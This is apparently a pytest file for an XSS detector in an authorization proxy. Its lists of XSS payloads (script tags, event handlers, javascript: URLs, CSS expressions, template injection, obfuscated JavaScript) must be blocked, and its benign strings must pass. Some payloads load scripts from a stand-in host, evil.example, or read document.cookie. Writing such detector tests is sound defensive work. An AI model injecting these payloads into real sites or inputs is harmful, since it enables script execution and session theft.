"""XSS detector: HTML tags, attribute injection, script URLs, JS break-outs, templates, CSS."""
from __future__ import annotations


import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from extauthz.budget import request_cpu
from extauthz.decode import Input
from extauthz.detect import REGISTRY, DetectorSet
from extauthz.detect.html_tokens import decode_entities, scan_attributes, scan_tags, url_scheme
from extauthz.detect.js_tokens import read_js, tokenize_js
from extauthz.detect.xss import analyse, css_danger
from extauthz.finding import Severity
from extauthz.request import Request


def blocks(value: str) -> bool:
    v = analyse(value)
    return v is not None and v.severity >= Severity.HIGH


ATTACKS = [
    # elements
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg/onload=alert(1)>",
    "<svg onload=alert(1)",  # unclosed
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert`1`>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=confirm(1)>",
    "<x onclick=alert(1)>click",  # any tag, unknown events too
    "<iframe src=javascript:alert(1)>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=//evil.example/x.swf>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<base href=//evil.example/>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x</button>",
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    '<div style="width: expression(alert(1))">',
    '<div style="background:url(javascript:alert(1))">',
    '<div style="x:ex/**/pression(alert(1))">',
    '<div style="-moz-binding:url(//evil.example/x.xml#x)">',
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # full-width
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",  # UTF-7
    # attribute injection
    '" onmouseover="alert(1)',
    "' onfocus=alert(1) autofocus '",
    '"onmouseover=alert(1)//',
    '" style="x:expression(alert(1))',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    # URLs
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "ja&Tab;vascript&colon;",
    # JavaScript contexts
    "';alert(1)//",
    '";alert(String.fromCharCode(88,83,83))//',
    "'-alert(1)-'",
    "\\';alert(1);//",
    "'});alert(1);//",
    '"]);}catch(e){}if(!self.a)self.a=!alert(1);//',
    "</script><script>alert(1)</script>",
    "top['al\\x65rt'](1)",
    "[].constructor.constructor('alert(1)')()",
    "window['alert'](document['cookie'])",
    "document /*x*/ . cookie",
    "[].sort.call`${alert}1337`",
    "\u2018-prompt(1)-\u2019",
    # templates
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{_c.constructor('alert(1)')()}}",
]

BENIGN = [
    "<b>bold</b>",
    "<i>x</i>",
    "a < b",
    "x<3",
    "i <3 you",
    "2<5>1",
    "<p>Hello <strong>world</strong></p>",
    '<a href="https://example.com/page?x=1">link</a>',
    '<img src="/images/cat.png" alt="cat">',
    "He said: 'alert the team (now)!'",
    "Please confirm (yes/no)",
    "call prompt() later",
    "Use document.getElementById('x') to find it",
    "set online=true for the feature",
    "{{ user.name }}",
    "Hello {{name}}, your order {{order.id}} shipped",
    "style: color red; background: url(/img/bg.png)",
    "javascript: the good parts (2008)",
    "Learn JavaScript: variables, functions (and more)",
    "AT&T",
    "O'Reilly's \"Learning SQL\" (3rd ed.)",
    "It's 5 o'clock somewhere; let's go",
    "https://example.com/?q=javascript+tutorial",
    "Temperature < 0 tonight",
    "user's choice: \"yes\" or \"no\"",
    ":-) ;-) <:-)",
    "price<=100 & size>=10",
    # developer prose
    "* testsuite/testutils.c (print_hex): New function (moved from",
    "function (LP: #1829401)",
    "Allow /etc/default/<script> re-define DAEMON variable",
    "use <object> instead of <img> to embed svg",
    "submodule URL, the url.<base>.insteadOf configuration option can be used.",
    "      Data:",
    "",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_attacks_block(value: str) -> None:
    assert blocks(value), analyse(value)


@pytest.mark.parametrize("value", BENIGN)
def test_benign_pass(value: str) -> None:
    assert not blocks(value), analyse(value)


def test_script_tag_is_critical() -> None:
    v = analyse("<script>alert(1)</script>")
    assert v.severity is Severity.CRITICAL and v.rule == "script-tag"


def test_tag_scanner_reads_like_a_browser() -> None:
    tags = scan_tags("<img/src=x/onerror=alert(1)><scr<script>x")
    names = [t.name for t in tags]
    assert names[0] == "img" and "script" in names
    attrs = {a.name: a.value for a in tags[0].attrs}
    assert attrs == {"src": "x/onerror=alert(1)"}  # "/" inside an unquoted value belongs to it
    attrs, end, closed = scan_attributes('x onclick="a b" y=1>', 0)
    assert [(a.name, a.value) for a in attrs] == [("x", ""), ("onclick", "a b"), ("y", "1")] and closed


def test_entities_and_url_schemes() -> None:
    assert decode_entities("&lt;a&gt; &#x6A;&#0000097; &colon;&Tab;&amp") == "<a> ja :\t&"
    assert url_scheme("jav&#x09;ascript&colon;alert(1)") == ("javascript", "alert(1)")
    assert url_scheme("\x01 JAVA\nSCRIPT:x") == ("javascript", "x")
    assert url_scheme("https://x")[0] == "https"
    assert url_scheme("no scheme here")[0] == ""


def test_js_reader_rejects_prose_after_a_quote() -> None:
    toks = tokenize_js("s alert(1)")
    js = read_js(toks)
    assert js.sink == "alert()" and js.valid_until <= js.sink_index  # "s alert" is not code
    js = read_js(tokenize_js(";alert(1)//"))
    assert js.sink == "alert()" and js.valid_until == len(tokenize_js(";alert(1)//"))
    assert read_js(tokenize_js("\\u0061lert(1)")).sink == "alert()"


def test_css_normalisation() -> None:
    assert css_danger("x:\\65 xpression(alert(1))") == "expression()"
    assert css_danger("background:url( 'javascript:alert(1)' )").startswith("url(javascript:")
    assert css_danger("color:red; background:url(/x.png)") == ""


def test_detector_finding_fields() -> None:
    ds = DetectorSet([REGISTRY["xss"]()])
    findings = ds.scan(Request(), [Input("query", "q", "<svg onload=alert(1)>")])
    assert len(findings) == 1
    f = findings[0]
    assert f.cls == "xss" and f.rule == "xss.event-handler" and f.location == "query:q"
    assert "onload" in f.excerpt


def test_prefilter_skips_plain_text() -> None:
    ds = DetectorSet([REGISTRY["xss"]()])
    assert ds._prefilter.candidates("hello world, 42 items") == set()
    assert ds._prefilter.candidates("<svg onload=x>") == {0}


def test_long_hostile_input_is_bounded() -> None:
    for value in ("<a " * 4000, "<" * 8000, "'" + "-alert(1)" * 900, "{{" * 4000, "&#" * 4000,
                  '<x y="' * 2000, "javascript:" * 700, "<iframe srcdoc='" * 500, "<a href=`" * 900,
                  "`${" * 2700, "{{`${" * 1600):
        t0 = request_cpu()
        analyse(value)
        assert request_cpu() - t0 < 0.5, value[:20]


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300))
def test_tokenizers_never_raise(text: str) -> None:
    for t in scan_tags(text):
        assert 0 <= t.start < t.end <= len(text)
    scan_attributes(text, 0)
    decode_entities(text)
    url_scheme(text)
    read_js(tokenize_js(text))
    analyse(text)


HTML_ALPHABET = st.sampled_from(["<", ">", "/", " ", "=", '"', "'", "`", "script", "img", "svg", "on", "load",
                                 "onerror", "alert(1)", "javascript:", "&#", "x6a;", "&colon;", "{{", "}}",
                                 "style", "expression(", "url(", "\\", ";", "//", "constructor", "[", "]", "\n"])


@settings(max_examples=300, deadline=None)
@given(st.lists(HTML_ALPHABET, max_size=200))
def test_markup_shaped_noise_never_raises_and_is_fast(parts: list[str]) -> None:
    value = "".join(parts)
    t0 = request_cpu()
    analyse(value)
    assert request_cpu() - t0 < 0.25


def test_dangling_event_handler_at_the_end() -> None:
    assert blocks("<x onend=")
    assert not blocks("<a title=>x</a>")


def test_plain_property_paths_are_not_code() -> None:
    assert not blocks("/get/javascript-manual/document.cookie")
    assert not blocks("/get/eval(")
    assert blocks("(document)['cookie']")


# ---------------------------------------------------------------- odd quoting, legacy parsers, obfuscation

LENIENT_ATTACKS = [
    # event handlers the attribute reader cannot untangle
    '"<div onmouseover=""document.write(""XSS"");"">"',  # CSV-doubled quotes
    "<img src onerror /\" '\"= alt=alert(1)//\">",  # junk between the name and "="
    "'><img o[\x00]nerror=alert(1) src=a>",  # NUL placeholder inside the name
    '<img[a][b]src=x[d]onerror[c]=[e]"alert(1)">',  # fuzzer placeholders
    "<img src='1' onerror\x0b=alert(0) />",
    "<IMG STYLE=\\\\\"xss:expr/*XSS*/ession(alert(\\'XSS\\'))\\\\\">",  # backslash-escaped quotes
    # CSS escapes
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069"
    "\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0031\\0029'\\0029\">",
    "<x/style=-m\\0o\\0z\\0-b\\0i\\0n\\0d\\0i\\0n\\0g\\0:\\0u\\0r\\0l\\0(//evil.example/x.xml#x)>",
    "[color=red width=expression(alert(123))][color]",
    # XML data islands: CDATA sections and comments joined by the XML parser
    "<XML ID=I><X><C><![CDATA[<IMG SRC=\"javas]]><![CDATA[cript:alert('XSS');\">]]>",
    '<XML ID="x"><I><B><IMG SRC="javas<!-- -->cript:alert(1)"></B></I></XML>',
    "<foo><![CDATA[<]]>SCRIPT<![CDATA[>]]>alert('XSS');<![CDATA[<]]>/SCRIPT<![CDATA[>]]></foo>",
    '"><?xml-stylesheet type="text/xsl" href="#" ?><stylesheet xmlns="http://www.w3.org/TR/WD-xsl">'
    "<template match=\"/\"><eval>new ActiveXObject('htmlfile').parentWindow.alert(1)</eval></template></stylesheet>",
    '<!DOCTYPE x [<!ATTLIST img xmlns CDATA "http://www.w3.org/1999/xhtml" src CDATA "xx:x" '
    'onerror CDATA "alert(1)">]><img />',
    # filler that filters strip
    "<s[NULL]cript>alert(1)</s[NULL]cript>",
    "'><scr/**/ipt>alert(1)</sc/**/ipt>",
    '><s"+"cript>alert(document.cookie)</s"+"cript>',
    "< s c r i p t > p r o m p t ( 1 ) < / s c r i p t >",
    "<IMG SRC=javascrscriptipt:alert('XSS')>",
    "'<'s'v'g' o'n'l'o'a'd'='a'l'e'r't'('7')' '>'",
    # legacy charsets
    "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be",  # US-ASCII with the high bit stripped
    "1\u20444script3\u20444alert(\u00a2XSS\u00a2)1\u20444/script3\u20444",  # the same after NFKC
    "\u043cscript\u043ealert(1)\u043c/script\u043e",  # code points truncated to their low byte
    "\u2200\u3e00\u3c00script\u3e00alert(1)\u3c00/script\u3e00",  # UTF-16 halves
    "<meta charset=iso-2022-jp>\x1b(J+onfocus=alert(1) autofocus>",
    "<\u017fcript src=//evil.example/x.js></\u017fcript>",  # long s upper-cases to S
    # frameworks, SVG
    '<x data-bind=".:&#x5cu0061lert(1)">',
    "<x ng-focus=x=$event id=f tabindex=0><x ng-if=[1].map(x.view.alert)>",
    "<svg><set href=#script attributeName=href to=data:,alert(1)/>",
    "[a](javascript:prompt(document.cookie))",
    # the XSS locator probe
    "'';!--\"<XSS>=&{()}",
]

CONTEXT_FREE_JS = [
    'top["al"+"ert"](1)',
    "top[/al/.source+/ert/.source](1)",
    "top[8680439..toString(30)](1)",
    "this['EvAL'.toLowerCase()]('aLErT(1)'.toLowerCase())",
    'window["ale" + (!![]+[])[+!+[]]+(!![]+[])[+[]]](1)',
    "a=/ev/ .source a+=/al/ .source,a = a[a] a(name)",
    "a=0||'ev'+'al',b=0||location.hash,c=0||'sub'+'str',1[a](b[c](1))",
    "___=1?'ert(123)':0,_=1?'al':0,__=1?'ev':0,1[__+_](_+___)",
    "s1=!''&&'jav';s2=!''&&'ascript';s3=!''&&':';s4=!''&&'aler';s5=!''&&'t';s6=!''&&'(1)';URL=s1+s2+s3+s4+s5+s6;",
    "onerror=confirm;throw 1;",
    "onerror=eval;throw'alert(1)';",
    '""+{toString:alert}',
    "a=alert,a(1)",
    "1};a=eval;b=alert;a(b(14));//",
    "(alert)(1)",
    "[1].find(alert)",
    "Array.from([1],alert)",
    ".replace(/.+/,eval)//",
    "setTimeout(alert)",
    "Array.prototype[Symbol.hasInstance]=eval;\"alert(1)\" instanceof [];",
    "Components.lookupMethod(self, 'confirm')(1)",
    "location=location.hash.slice(1);",
    "x=new class extends Function{}('alert(1)');x=new x;",
    "/*@cc_on @if(1)confirm(1)@end",
    "'te' == alert('==') == 'xt';",
    "${alert(1337)}`",
    ";//\ra=eval;b=alert;a(b(10));//",
]

DEVELOPER_TEXT = [
    # JavaScript in ordinary developer traffic (pastes, tickets, config): no indirect runner
    "const total = items.map(x => x.price).reduce((a, b) => a + b, 0);",
    "window[callbackName](data)",
    "el.addEventListener('click', onClick)",
    "name = first + ' ' + last",
    "var url = '/api/' + id + '?v=' + version;",
    "price.toString(10)",
    "str.split('').reverse().join('')",
    "<div v-on:click=\"count++\">{{ count }}</div>",
    '<button ng-click="save()">Save</button>',
    "Weather (alert) today",
    "set level: alert",
    "status = alert ? 'red' : 'green'",
    "<p>He said \"no\"; then <b>left</b> --></p>",
    "'\"()=<z>",
    "Привет, мир! Как дела? <b>жирный</b>",
    "Price: ${price} (tax incl.)",
    "<meta charset=\"utf-8\">",
    '<div style="color:red; font-family:\'Open Sans\'">x</div>',
    "[link](https://example.com/docs)",
    "<p title=\"See the onload event\">x</p>",
]


@pytest.mark.parametrize("value", LENIENT_ATTACKS)
def test_lenient_parser_attacks_block(value: str) -> None:
    assert blocks(value), analyse(value)


@pytest.mark.parametrize("value", CONTEXT_FREE_JS)
def test_context_free_javascript_blocks(value: str) -> None:
    assert blocks(value), analyse(value)


@pytest.mark.parametrize("value", DEVELOPER_TEXT)
def test_developer_text_passes(value: str) -> None:
    assert not blocks(value), analyse(value)


def test_lenient_readings_are_capped_at_high() -> None:
    """A form only some parsers produce is HIGH, not CRITICAL: it blocks, but says less."""
    v = analyse("<s[NULL]cript>alert(1)</s[NULL]cript>")
    assert v.severity is Severity.HIGH and v.rule == "script-tag"
    assert analyse("<script>alert(1)</script>").severity is Severity.CRITICAL


def test_probe_needs_several_contexts_in_one_dense_token() -> None:
    assert analyse("'';!--\"<XSS>=&{()}").rule == "probe"
    assert not blocks("'\"><b>")  # two contexts
    assert not blocks("it's \"fine\"; <b>ok</b> -->")  # prose has blanks


def test_obfuscated_code_is_bounded() -> None:
    for value in ("!" * 8000, "(" * 8000, "'x'+" * 2000, "x[y](" * 1600, "a=alert," * 1000 + "a(1)",
                  "1..toString(36)+" * 500, "<img o[]nerror=alert(1) " * 300, "[a]" * 2700,
                  "<!ATTLIST x " + 'onload CDATA "a" ' * 300, "\u00bc" * 8000, "<" + "\u043c" * 8000):
        t0 = request_cpu()
        analyse(value)
        assert request_cpu() - t0 < 0.25, value[:20]
